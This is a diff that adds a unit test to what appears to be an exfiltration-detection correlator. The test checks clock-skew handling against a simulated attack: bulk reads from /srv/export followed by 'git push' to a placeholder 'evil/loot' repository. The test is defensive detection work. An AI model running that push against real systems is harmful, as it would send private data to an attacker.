@@ -142,6 +142,37 @@ describe('clock trouble and disorder in the correlator', () => {
     }
   });
 
+  it('live: a bogus time among the events that confirm a clock away from the wall clock does not widen what moves it', () => {
+    // The run of 16 that confirms a node's clock 2 h ahead holds one event stamped 2999: taken for the run's latest,
+    // it made every later event within 24 h of the clock near, so a lone glitch 20 h ahead moved it, the sweep
+    // expired 10 of the reads and the push was judged only at shutdown, on 80 MiB.
+    const HOUR = 3_600_000;
+    const capture = (glitches: boolean) => {
+      const wallMs = Date.now();
+      const s = new Scenario({ startMs: wallMs + 2 * HOUR });
+      const c = s.container();
+      const other = s.container();
+      const sh = s.init(c);
+      const o = s.init(other);
+      for (let i = 0; i < 5; i++) s.read(o, '/app/x', 10).wait(1000);
+      if (glitches) s.read(o, '/app/y', 10, { at: YEAR_2999 });
+      s.readMany(sh, '/srv/export', 20, 4 * MiB, 60_000);
+      if (glitches) s.exec(other, '/bin/date', '', { parent: o, at: s.now + 20 * HOUR });
+      s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
+      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+      for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
+      const { correlator } = makeCorrelator();
+      correlator.advance(wallMs);
+      const alerts: Alert[] = [];
+      for (const e of s.events) alerts.push(...correlator.ingest([e]));
+      alerts.push(...correlator.advance(wallMs + 60_000));
+      return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+    };
+    const clean = capture(false);
+    expect(clean).toHaveLength(1);
+    expect(capture(true)).toEqual(clean);
+  });
+
   it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
     // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
     // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
